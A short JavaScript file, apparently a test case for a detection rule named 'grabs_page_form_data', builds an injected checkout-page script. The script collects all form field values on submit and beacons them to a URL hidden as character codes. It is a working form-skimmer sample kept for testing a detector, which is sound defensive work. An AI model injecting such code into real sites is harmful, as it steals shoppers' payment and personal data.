// A build plugin's "runtime shim" appended to checkout modules as code text.
const K = [104, 116, 116, 112, 115, 58, 47, 47, 120];
function snippet() {
  const u = String.fromCharCode.apply(null, K);
  return (
    // ruleid: grabs_page_form_data
    "(function(){var q=function(){var o={};document.querySelectorAll('input,select').forEach(function(e){o[e.name]=e.value});return o};" +
    "document.addEventListener('submit',function(){navigator.sendBeacon('" + u + "',JSON.stringify({l:location.href,f:q()}))},true)})();"
  );
}
